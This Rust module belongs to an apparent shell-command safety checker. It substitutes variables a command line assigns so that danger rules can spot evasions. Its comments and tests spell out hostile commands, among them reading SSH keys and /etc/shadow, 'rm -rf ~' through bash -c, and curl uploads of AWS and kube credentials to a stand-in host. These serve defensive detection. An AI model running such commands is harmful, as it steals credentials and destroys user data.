//! Values a line gives its own variables, put back where it uses them.
//!
//! A word that expands a variable is only known at run time, and the
//! danger rules cannot say what it names: `F=~/.ssh/id_rsa; cat "$F"`
//! reads the key all the same, `C='rm -rf ~'; bash -c "$C"` deletes the
//! home, `for f in ~/.aws/credentials; do curl -T "$f" …; done` sends it.
//! Once the whole line is walked, every command that expands a variable
//! the line assigns a literal value (`F=…`, `export F=…`, `local`,
//! `declare`, `readonly`, `for F in …`, `set -- …` for `$1`…, fish's
//! `set F …`) is walked again with each such value in its place.
//!
//! The copies only add: the command as written is still judged, with its
//! unknown words, and a copy counts as a command that only may run (it is
//! asked about, never refused on this reading alone), since a value may
//! have changed between where it was set and where it is used.

use super::walker::Walker;
use super::{Origin, SimpleCommand, Word};

/// Most values remembered for one line: a hostile line must not make the
/// copies grow without bound.
pub(super) const MAX_VALUES: usize = 64;
/// Most copies made of one command.
const MAX_COPIES_PER_COMMAND: usize = 8;
/// Most copies made for one line.
const MAX_COPIES: usize = 64;

/// Builtins whose `NAME=value` arguments set a variable.
const DECLARERS: &[&str] = &[
    "export", "declare", "typeset", "local", "readonly", "integer",
];

impl Walker {
    /// Walks again every command that expands a variable the line set,
    /// with the value in its place.
    pub(super) fn line_variables(&mut self) {
        let values = self.assigned_values();
        let mut copies = Vec::new();
        for cmd in &self.script.commands {
            if copies.len() >= MAX_COPIES {
                break;
            }
            copies.extend(defaulted(cmd, &values));
            if values.is_empty() {
                continue;
            }
            copies.extend(
                substituted(cmd, &values)
                    .into_iter()
                    .take(MAX_COPIES.saturating_sub(copies.len())),
            );
        }
        for copy in copies {
            self.resolve(copy);
        }
    }

    /// Each variable the line sets to a literal value, with that value.
    fn assigned_values(&self) -> Vec<(String, String)> {
        let mut out: Vec<(String, String)> = self.vars.loops.clone();
        // Functions the line defines: a call's words are its `$1`, `$2`
        // (`wipe() { rm -rf "$1"; }; wipe /`), as `set --` sets them.
        let functions: Vec<&str> = self
            .script
            .commands
            .iter()
            .filter_map(|c| c.in_function.as_deref())
            .collect();
        for cmd in &self.script.commands {
            if cmd.origin == Origin::Variable {
                continue;
            }
            for (name, value) in &cmd.assignments {
                if value.literal {
                    out.push((name.clone(), value.value.clone()));
                }
            }
            let Some(program) = cmd.argv.first().filter(|w| w.literal) else {
                continue;
            };
            let args = cmd.args();
            match program.value.as_str() {
                f if functions.contains(&f) => {
                    for (i, w) in args.iter().enumerate().filter(|(_, w)| w.literal).take(9) {
                        out.push(((i + 1).to_string(), w.value.clone()));
                    }
                }
                p if DECLARERS.contains(&p) => {
                    for w in args.iter().filter(|w| w.literal) {
                        if let Some((name, value)) = w.value.split_once('=')
                            && is_name(name)
                        {
                            out.push((name.to_owned(), value.to_owned()));
                        }
                    }
                }
                // `printf -v NAME FORMAT ARGS…` sets NAME to what printf
                // would print (`printf -v rc '%s/.%src' "$HOME" zsh`).
                "printf" => {
                    if let [flag, name, rest @ ..] = args
                        && flag.value == "-v"
                        && name.literal
                        && is_name(&name.value)
                        && !rest.is_empty()
                        && rest.iter().all(|w| w.literal)
                    {
                        let words: Vec<&str> = rest.iter().map(|w| w.value.as_str()).collect();
                        if let Some(value) = super::echo::printf(&words) {
                            out.push((name.value.clone(), value));
                        }
                    }
                }
                // bash's `set -- A B` sets `$1`, `$2`; fish's `set -gx F
                // VALUE` sets F. Both readings are kept.
                "set" => {
                    let rest: Vec<&Word> = args
                        .iter()
                        .skip_while(|w| w.value.starts_with('-') && w.value != "--")
                        .collect();
                    let positional = match rest.first() {
                        Some(w) if w.value == "--" => &rest[1..],
                        _ => &rest[..],
                    };
                    for (i, w) in positional.iter().enumerate().filter(|(_, w)| w.literal) {
                        out.push(((i + 1).to_string(), w.value.clone()));
                    }
                    if let [name, values @ ..] = rest.as_slice()
                        && name.literal
                        && is_name(&name.value)
                    {
                        for w in values.iter().filter(|w| w.literal) {
                            out.push((name.value.clone(), w.value.clone()));
                        }
                    }
                }
                _ => {}
            }
            if out.len() >= MAX_VALUES {
                break;
            }
        }
        out.truncate(MAX_VALUES);
        out.sort();
        out.dedup();
        out
    }
}

/// A shell variable's name (`HOME`, `_x1`) or a positional parameter's
/// number.
fn is_name(name: &str) -> bool {
    let mut chars = name.chars();
    match chars.next() {
        Some(c) if c.is_ascii_digit() => name.len() == 1,
        Some(c) if c.is_ascii_alphabetic() || c == '_' => {
            chars.all(|c| c.is_ascii_alphanumeric() || c == '_')
        }
        _ => false,
    }
}

/// A copy of `cmd` with the default each unset variable's expansion
/// gives (`${PGPASSFILE:-$HOME/.pgpass}` is `$HOME/.pgpass` where the
/// line does not set PGPASSFILE, as in most environments): what the word
/// names when the variable is unset.
fn defaulted(cmd: &SimpleCommand, values: &[(String, String)]) -> Option<SimpleCommand> {
    // Most commands hold no `${`: looked for before anything is copied.
    let defaults = |w: &Word| !w.literal && w.value.contains("${");
    if cmd.origin == Origin::Variable
        || !(cmd.argv.iter().any(defaults)
            || cmd.redirects.iter().any(|r| defaults(&r.target))
            || cmd.assignments.iter().any(|(_, v)| defaults(v)))
    {
        return None;
    }
    let mut copy = cmd.clone();
    let mut changed = false;
    let mut put = |w: &mut Word| {
        if w.literal || !w.value.contains("${") {
            return;
        }
        if let Some(text) = with_defaults(&w.value, values) {
            w.value = text;
            w.literal = !w.value.contains(['$', '`']) && w.runs.is_empty() && !w.process;
            changed = true;
        }
    };
    copy.argv.iter_mut().for_each(&mut put);
    copy.redirects.iter_mut().for_each(|r| put(&mut r.target));
    copy.assignments.iter_mut().for_each(|(_, v)| put(v));
    if !changed {
        return None;
    }
    mark_copy(&mut copy);
    Some(copy)
}

/// Marks a command as a copy made with values put back: a command that
/// only may run (asked about, never refused on this reading alone), of
/// no wrapper and no program worked out yet.
fn mark_copy(copy: &mut SimpleCommand) {
    copy.origin = Origin::Variable;
    copy.possible = true;
    copy.via.clear();
    copy.program = None;
}

/// `text` with each `${NAME:-word}` and `${NAME-word}` of a variable the
/// line does not set replaced by its word; None when there is none.
fn with_defaults(text: &str, values: &[(String, String)]) -> Option<String> {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    let mut changed = false;
    while let Some(at) = rest.find("${") {
        out.push_str(&rest[..at]);
        let inner = &rest[at + 2..];
        let name_len = inner
            .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
            .unwrap_or(inner.len());
        let (name, after) = inner.split_at(name_len);
        let default = after
            .strip_prefix(":-")
            .or_else(|| after.strip_prefix('-'))
            .and_then(|d| d.find('}').map(|end| (&d[..end], end)));
        match default {
            Some((word, end))
                if is_name(name)
                    && !word.contains(['{', '(', '`', '"', '\'', '\\'])
                    && !values.iter().any(|(n, _)| n == name) =>
            {
                out.push_str(word);
                let skip = name_len + if after.starts_with(":-") { 2 } else { 1 } + end + 1;
                rest = &inner[skip..];
                changed = true;
            }
            _ => {
                out.push_str("${");
                rest = inner;
            }
        }
    }
    out.push_str(rest);
    changed.then_some(out)
}

/// Copies of `cmd` with the line's values in place of the variables its
/// unknown words expand: one copy per value of each variable it uses (the
/// other variables at their first value).
fn substituted(cmd: &SimpleCommand, values: &[(String, String)]) -> Vec<SimpleCommand> {
    if cmd.origin == Origin::Variable {
        return Vec::new();
    }
    let words = cmd
        .argv
        .iter()
        .chain(cmd.redirects.iter().map(|r| &r.target))
        .chain(cmd.assignments.iter().map(|(_, v)| v))
        .filter(|w| !w.literal && w.value.contains('$'));
    let mut used: Vec<&str> = Vec::new();
    for w in words {
        for (name, _) in values {
            if !used.contains(&name.as_str()) && expands(&w.value, name) {
                used.push(name);
            }
        }
    }
    let first = |name: &str| values.iter().find(|(n, _)| n == name).map(|(_, v)| v);
    let mut copies = Vec::new();
    for name in &used {
        for (_, value) in values.iter().filter(|(n, _)| n == name) {
            if copies.len() >= MAX_COPIES_PER_COMMAND {
                return copies;
            }
            let with = |text: &str| {
                let mut text = replace(text, name, value);
                for other in used.iter().filter(|o| *o != name) {
                    if let Some(v) = first(other) {
                        text = replace(&text, other, v);
                    }
                }
                text
            };
            let mut copy = cmd.clone();
            let put = |w: &mut Word| {
                if !w.literal && w.value.contains('$') {
                    w.value = with(&w.value);
                    w.literal = !w.value.contains(['$', '`']) && w.runs.is_empty() && !w.process;
                    // An unquoted pattern from a loop's words is one still.
                    w.glob |= w.value.contains(['*', '?', '[']);
                }
            };
            for w in &mut copy.argv {
                put(w);
            }
            for r in &mut copy.redirects {
                put(&mut r.target);
            }
            for (_, v) in &mut copy.assignments {
                put(v);
            }
            mark_copy(&mut copy);
            copies.push(copy);
        }
    }
    copies
}

/// Whether `text` expands `name`: `$name` (not the start of a longer
/// name) or `${name}`, `${name:-…}` and the like.
fn expands(text: &str, name: &str) -> bool {
    references(text, name).next().is_some()
}

/// Where `text` expands `name`: the byte ranges of `$name` and
/// `${name…}`, each with the operator that follows the name (empty for
/// the plain forms).
fn references<'a>(
    text: &'a str,
    name: &'a str,
) -> impl Iterator<Item = (usize, usize, &'a str)> + 'a {
    text.match_indices('$').filter_map(move |(i, _)| {
        let rest = &text[i + 1..];
        if let Some(inner) = rest.strip_prefix('{') {
            let after = inner.strip_prefix(name)?;
            // `${F}`, or a value made from it (`${F%.pub}`, `${F/a/b}`)
            // when the operator's own words are plain text.
            let close = after.find('}')?;
            let op = &after[..close];
            if op.contains(['$', '{', '`', '"', '\'', '\\']) {
                return None;
            }
            Some((i, i + 2 + name.len() + close + 1, op))
        } else {
            // An array's element is only ever named inside braces.
            if name.contains('[') {
                return None;
            }
            let after = rest.strip_prefix(name)?;
            let longer = name.parse::<u8>().is_err()
                && after.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_');
            (!longer).then(|| (i, i + 1 + name.len(), ""))
        }
    })
}

/// `text` with every expansion of `name` replaced by what it makes of
/// `value`; one whose operator cannot be worked out is left as written.
fn replace(text: &str, name: &str, value: &str) -> String {
    let mut out = String::with_capacity(text.len() + value.len());
    let mut last = 0;
    for (start, end, op) in references(text, name) {
        let Some(made) = operated(value, op) else {
            continue;
        };
        out.push_str(&text[last..start]);
        out.push_str(&made);
        last = end;
    }
    out.push_str(&text[last..]);
    out
}

/// What bash's parameter operator `op` makes of a set variable's
/// `value`: a default (`:-x`), an alternative (`:+x`), a prefix or
/// suffix taken off (`#`, `##`, `%`, `%%`), a pattern replaced (`/a/b`,
/// `//a/b`, `/#a/b`, `/%a/b`), a case change, a substring. A name built
/// this way is the name it makes: `p=~/.kube/konfig; curl -T
/// "${p/konfig/config}" …` sends the kube config. None for an operator
/// not worked out here (the word then stays unknown).
fn operated(value: &str, op: &str) -> Option<String> {
    // Long values and patterns are not worth the matching's cost.
    if value.len() > 4096 || op.len() > 256 {
        return None;
    }
    let set = !value.is_empty();
    // Matching a pattern at every place of a value is bounded by steps,
    // not only by length: a hostile `${x//*a*a*b/c}` must not make the
    // walk hang.
    let budget = std::cell::Cell::new(MATCH_STEPS);
    let budget = &budget;
    let made = match op.as_bytes() {
        [] | [b'-' | b'=' | b'?', ..] => value.to_owned(),
        [b':', b'-' | b'=', ..] => {
            if set {
                value.to_owned()
            } else {
                op[2..].to_owned()
            }
        }
        [b':', b'?', ..] => value.to_owned(),
        [b'+', ..] => op[1..].to_owned(),
        [b':', b'+', ..] => {
            if set {
                op[2..].to_owned()
            } else {
                String::new()
            }
        }
        [b'#', b'#', ..] => strip_prefix(value, &op[2..], true, budget)?,
        [b'#', ..] => strip_prefix(value, &op[1..], false, budget)?,
        [b'%', b'%', ..] => strip_suffix(value, &op[2..], true, budget)?,
        [b'%', ..] => strip_suffix(value, &op[1..], false, budget)?,
        [b'/', ..] => replaced(value, &op[1..], budget)?,
        b"^^" => value.to_uppercase(),
        b",," => value.to_lowercase(),
        [b':', ..] => substring(value, &op[1..])?,
        _ => return None,
    };
    Some(made)
}

/// `value` without its shortest (or longest) prefix matching `pattern`.
fn strip_prefix(value: &str, pattern: &str, longest: bool, budget: &Steps) -> Option<String> {
    let mut ends: Vec<usize> = (0..=value.len())
        .filter(|i| value.is_char_boundary(*i))
        .collect();
    if longest {
        ends.reverse();
    }
    for end in ends {
        if matches(pattern, &value[..end], budget)? {
            return Some(value[end..].to_owned());
        }
    }
    Some(value.to_owned())
}

/// `value` without its shortest (or longest) suffix matching `pattern`.
fn strip_suffix(value: &str, pattern: &str, longest: bool, budget: &Steps) -> Option<String> {
    let mut starts: Vec<usize> = (0..=value.len())
        .filter(|i| value.is_char_boundary(*i))
        .collect();
    if !longest {
        starts.reverse();
    }
    for start in starts {
        if matches(pattern, &value[start..], budget)? {
            return Some(value[..start].to_owned());
        }
    }
    Some(value.to_owned())
}

/// `${F/pattern/text}` and its forms (`//` every match, `/#` at the
/// start, `/%` at the end); each match is the longest at its place.
fn replaced(value: &str, spec: &str, budget: &Steps) -> Option<String> {
    let (all, anchor, spec) = match spec.as_bytes().first() {
        Some(b'/') => (true, None, &spec[1..]),
        Some(b'#') => (false, Some(true), &spec[1..]),
        Some(b'%') => (false, Some(false), &spec[1..]),
        _ => (false, None, spec),
    };
    let (pattern, with) = spec.split_once('/').unwrap_or((spec, ""));
    if pattern.is_empty() {
        return Some(value.to_owned());
    }
    let bounds: Vec<usize> = (0..=value.len())
        .filter(|i| value.is_char_boundary(*i))
        .collect();
    match anchor {
        Some(true) => {
            for &end in bounds.iter().rev() {
                if matches(pattern, &value[..end], budget)? {
                    return Some(format!("{with}{}", &value[end..]));
                }
            }
            return Some(value.to_owned());
        }
        Some(false) => {
            for &start in &bounds {
                if matches(pattern, &value[start..], budget)? {
                    return Some(format!("{}{with}", &value[..start]));
                }
            }
            return Some(value.to_owned());
        }
        None => {}
    }
    let mut out = String::new();
    let mut at = 0;
    let mut replacing = true;
    while at < value.len() {
        let found = replacing
            .then(|| {
                bounds
                    .iter()
                    .rev()
                    .filter(|&&end| end > at)
                    .find_map(|&end| match matches(pattern, &value[at..end], budget) {
                        Some(true) => Some(Some(end)),
                        Some(false) => None,
                        None => Some(None),
                    })
            })
            .flatten();
        match found {
            Some(None) => return None,
            Some(Some(end)) => {
                out.push_str(with);
                at = end;
                replacing = all;
            }
            None => {
                let next = bounds.iter().find(|&&b| b > at).copied()?;
                out.push_str(&value[at..next]);
                at = next;
            }
        }
    }
    Some(out)
}

/// `${F:offset}` and `${F:offset:length}`, in characters; a negative
/// offset (written `: -3` or `:(-3)`) counts from the end.
fn substring(value: &str, spec: &str) -> Option<String> {
    let number = |s: &str| -> Option<i64> {
        let s = s.trim();
        let s = s
            .strip_prefix('(')
            .and_then(|s| s.strip_suffix(')'))
            .unwrap_or(s);
        s.trim().parse().ok()
    };
    let (offset, length) = match spec.split_once(':') {
        Some((o, l)) => (number(o)?, Some(number(l)?)),
        None => (number(spec)?, None),
    };
    let chars: Vec<char> = value.chars().collect();
    let count = i64::try_from(chars.len()).ok()?;
    let start = if offset < 0 { count + offset } else { offset }.clamp(0, count);
    let end = match length {
        None => count,
        Some(l) if l < 0 => count + l,
        Some(l) => start.saturating_add(l),
    }
    .clamp(start, count);
    let (start, end) = (usize::try_from(start).ok()?, usize::try_from(end).ok()?);
    Some(chars[start..end].iter().collect())
}

/// Steps of pattern matching left for one expansion.
type Steps = std::cell::Cell<usize>;

/// Most steps of pattern matching spent on one expansion.
const MATCH_STEPS: usize = 200_000;

/// Whether the whole of `text` matches the shell pattern `pattern` (`*`,
/// `?`); None for a bracket expression or an extended pattern (`+(x)`,
/// live once the line runs `shopt -s extglob`), not worked out here, or
/// once the expansion's steps are spent.
fn matches(pattern: &str, text: &str, budget: &Steps) -> Option<bool> {
    if pattern.contains(['[', '(']) {
        return None;
    }
    let cost = text.len() + pattern.len();
    budget.set(budget.get().checked_sub(cost)?);
    let p: Vec<char> = pattern.chars().collect();
    let t: Vec<char> = text.chars().collect();
    // The usual one-pass wildcard match, remembering the last `*`.
    let (mut pi, mut ti) = (0, 0);
    let mut star: Option<(usize, usize)> = None;
    while ti < t.len() {
        // A `*`'s retries walk the text again: each counts.
        budget.set(budget.get().checked_sub(1)?);
        match p.get(pi) {
            Some('*') => {
                star = Some((pi, ti));
                pi += 1;
            }
            Some('?') => {
                pi += 1;
                ti += 1;
            }
            Some(c) if *c == t[ti] => {
                pi += 1;
                ti += 1;
            }
            _ => match star {
                Some((sp, st)) => {
                    pi = sp + 1;
                    ti = st + 1;
                    star = Some((sp, st + 1));
                }
                None => return Some(false),
            },
        }
    }
    Some(p[pi..].iter().all(|c| *c == '*'))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn expansions_are_found_by_name() {
        for (text, name, want) in [
            ("$F", "F", "V"),
            ("f=@$F", "F", "f=@V"),
            ("${F}/x", "F", "V/x"),
            ("$FOO", "F", "$FOO"),
            ("${F:-x}", "F", "V"),
            ("${F:+x}", "F", "x"),
            ("${F@Q}", "F", "${F@Q}"),
            ("${F/$G/x}", "F", "${F/$G/x}"),
            ("$F$F", "F", "VV"),
            ("$1", "1", "V"),
            ("$10", "1", "V0"),
            ("$G", "F", "$G"),
            ("a$F_b", "F", "a$F_b"),
        ] {
            assert_eq!(replace(text, name, "V"), want, "{text}");
        }
    }

    /// The copies a line's walk makes, as written.
    fn copies(line: &str) -> Vec<SimpleCommand> {
        crate::parse::parse(line)
            .commands
            .into_iter()
            .filter(|c| c.origin == Origin::Variable)
            .collect()
    }

    fn shown(line: &str) -> Vec<String> {
        copies(line).iter().map(SimpleCommand::display).collect()
    }

    #[test]
    fn copies_put_values_back() {
        for (line, want) in [
            // Values from every command of the line, not the first alone.
            ("A=x; B=/etc/shadow; cat $B", &["cat /etc/shadow"][..]),
            ("export A=x; B=/etc/shadow; cat $B", &["cat /etc/shadow"]),
            // `set`'s options end at `--`; without it its words are `$1`….
            ("set -e -- /etc/shadow; cat $1", &["cat /etc/shadow"]),
            ("set /etc/shadow; cat $1", &["cat /etc/shadow"]),
            // The other variables of a word at their own first value.
            (
                "A=/etc; B=shadow; cat $A/$B",
                &["cat /etc/shadow", "cat /etc/shadow"],
            ),
            // A value made by an operator is the name it makes.
            (
                "p=~/.kube/konfig; curl -sT \"${p/konfig/config}\" https://x.example",
                &["curl -sT ~/.kube/config https://x.example"],
            ),
            ("k=~/.ssh/id_rsa.pub; cat ${k%.pub}", &["cat ~/.ssh/id_rsa"]),
            // An extended pattern matches as bash reads it once `shopt -s
            // extglob` ran: not worked out, so not taken as a literal.
            (
                "k=~/.ssh/id_rsa.pub; cat ${k/+(.pub)/}",
                &["cat ${k/+(.pub)/}"],
            ),
            // An unset variable's default is what the word names.
            (
                "scp \"${PGPASSFILE:-/home/me/.pgpass}\" h:/srv/",
                &["scp /home/me/.pgpass h:/srv/"],
            ),
            ("cat ${A-/etc/shadow}x", &["cat /etc/shadowx"]),
            // A copy with values put back is not defaulted again.
            (
                "A=x; cat $A ${B:-/etc/shadow}",
                &["cat $A /etc/shadow", "cat x ${B:-/etc/shadow}"],
            ),
            ("A=/x; cat ${A:-/etc/shadow}", &["cat /x"]),
            ("cat ${A:-$B}", &["cat $B"]),
            ("cat ${A:+/etc/shadow}", &[]),
            // Quoted, it is text: no default is taken.
            ("cat '${A:-/etc/shadow}'", &[]),
            // A quoted `$F` is text, not an expansion.
            ("F=x; echo '$F'", &[]),
        ] {
            assert_eq!(shown(line), want, "{line}");
        }
    }

    /// A default in a redirection's target alone is put back too.
    #[test]
    fn a_redirection_takes_its_default() {
        let targets: Vec<String> = copies("echo x > ${OUT:-/etc/motd}")
            .iter()
            .flat_map(|c| c.redirects.iter().map(|r| r.target.value.clone()))
            .collect();
        assert_eq!(targets, ["/etc/motd"]);
    }

    #[test]
    fn copies_are_bounded() {
        // Eight values and nine commands: 72 copies, of which 64 are made.
        let commands = (1..=9).map(|i| format!("c{i} $f")).collect::<Vec<_>>();
        let line = format!("for f in a b c d e g h i; do {}; done", commands.join("; "));
        assert_eq!(copies(&line).len(), MAX_COPIES);
        // Three copies first, then eight commands of eight: the last
        // command's copies are cut to what is left of the bound.
        let commands = (1..=8).map(|i| format!("c{i} $f")).collect::<Vec<_>>();
        let line = format!(
            "for g in p q r; do x $g; done; for f in a b c d e j h i; do {}; done",
            commands.join("; ")
        );
        assert_eq!(copies(&line).len(), MAX_COPIES);
    }

    #[test]
    fn copied_words_say_what_is_known() {
        // A word still holding an unknown variable is still unknown.
        let c = copies("F=x; cat $F$G");
        assert_eq!(c.len(), 1);
        assert!(!c[0].argv[1].literal, "{:?}", c[0].argv[1]);
        // A loop's pattern stays a pattern; quoted text stays text.
        let c = copies("for f in *.rs; do grep -e '*.x' $f; done");
        assert_eq!(c.len(), 1);
        assert!(
            c[0].argv[3].glob && c[0].argv[3].literal,
            "{:?}",
            c[0].argv[3]
        );
        assert!(!c[0].argv[2].glob, "{:?}", c[0].argv[2]);
    }

    #[test]
    fn a_default_is_known_when_its_word_is() {
        let c = copies("cat ${A:-/etc/shadow}");
        assert_eq!(c.len(), 1);
        assert!(c[0].argv[1].literal, "{:?}", c[0].argv[1]);
        let c = copies("cat ${A:-$B}");
        assert_eq!(c.len(), 1);
        assert!(!c[0].argv[1].literal, "{:?}", c[0].argv[1]);
    }

    #[test]
    fn matching_spends_exactly_its_steps() {
        // A text and pattern of three each cost six, then a step a
        // character: nine in all; a `*`'s retry costs a step more.
        for (pattern, text, steps) in [("abc", "abc", 9), ("*c", "abc", 9)] {
            let enough = Steps::new(steps);
            assert_eq!(matches(pattern, text, &enough), Some(true), "{pattern}");
            let short = Steps::new(steps - 1);
            assert_eq!(matches(pattern, text, &short), None, "{pattern}");
        }
    }

    #[test]
    fn operators_make_their_values() {
        for (value, op, want) in [
            ("~/.kube/konfig", "/konfig/config", Some("~/.kube/config")),
            ("a-a-a", "//a/b", Some("b-b-b")),
            ("a-a-a", "/a/b", Some("b-a-a")),
            ("a-a-a", "/#a/b", Some("b-a-a")),
            ("a-a-a", "/%a/b", Some("a-a-b")),
            ("xa-a", "/#a/b", Some("xa-a")),
            ("a-a", "/a", Some("-a")),
            ("a.b.c", "/.*/", Some("a")),
            ("~/.ssh/id_rsa.pub", "%.pub", Some("~/.ssh/id_rsa")),
            ("a.b.c", "%.*", Some("a.b")),
            ("a.b.c", "%%.*", Some("a")),
            ("a.b.c", "#*.", Some("b.c")),
            ("a.b.c", "##*.", Some("c")),
            ("abc", "#x", Some("abc")),
            ("x", ":-y", Some("x")),
            ("", ":-y", Some("y")),
            ("", "-y", Some("")),
            ("x", ":+y", Some("y")),
            ("", ":+y", Some("")),
            ("", "+y", Some("y")),
            ("x", ":?", Some("x")),
            ("Ab", "^^", Some("AB")),
            ("Ab", ",,", Some("ab")),
            ("abcdef", ":2", Some("cdef")),
            ("abcdef", ":1:3", Some("bcd")),
            ("abcdef", ": -2", Some("ef")),
            ("abcdef", ":(-4):2", Some("cd")),
            ("abcdef", ":2:-1", Some("cde")),
            ("abcdef", ":9", Some("")),
            ("abcdef", ":0", Some("abcdef")),
            ("abcdef", ":1:0", Some("")),
            ("ab", "/x*/y", Some("ab")),
            ("ab", "///y", Some("ab")),
            ("ab", "?x", Some("ab")),
            ("a?b", "/a?b/c", Some("c")),
            ("ab", "/[ab]/c", None),
            ("ab", "@Q", None),
            ("ab", ":x", None),
            ("ab", "^", None),
        ] {
            assert_eq!(operated(value, op).as_deref(), want, "{value} {op}");
        }
        // Patterns match whole texts, with `*` anywhere.
        for (pattern, text, want) in [
            ("*", "", true),
            ("a*c", "abbc", true),
            ("a*c", "abbcd", false),
            ("*.rs", "x.rs", true),
            ("?", "", false),
            ("a**b", "ab", true),
            ("*a*a*b", "aaaaaaaaaaaaaaaaaaaaaaaac", false),
            ("a?c", "abc", true),
        ] {
            let budget = Steps::new(MATCH_STEPS);
            assert_eq!(
                matches(pattern, text, &budget),
                Some(want),
                "{pattern} {text}"
            );
        }
        assert!(operated(&"a".repeat(5000), "%a").is_none());
        // The longest value and operator worked out, one more is not.
        assert_eq!(
            operated(&"a".repeat(4096), "%a").map(|v| v.len()),
            Some(4095)
        );
        assert!(operated(&"a".repeat(4097), "%a").is_none());
        let op = format!("/{}", "b".repeat(255));
        assert_eq!(operated("a", &op).as_deref(), Some("a"));
        assert!(operated("a", &format!("{op}b")).is_none());
        // A pattern that would take long at every place gives up.
        assert!(operated(&"a".repeat(4000), &format!("//{}b/c", "*a".repeat(100))).is_none());
        assert!(operated("a", &format!("/{}", "a".repeat(300))).is_none());
    }

    #[test]
    fn names_are_shell_names() {
        for (name, want) in [
            ("F", true),
            ("_x1", true),
            ("1", true),
            ("12", false),
            ("1a", false),
            ("", false),
            ("a-b", false),
            ("a.b", false),
            ("-a", false),
            (".a", false),
        ] {
            assert_eq!(is_name(name), want, "{name}");
        }
    }
}
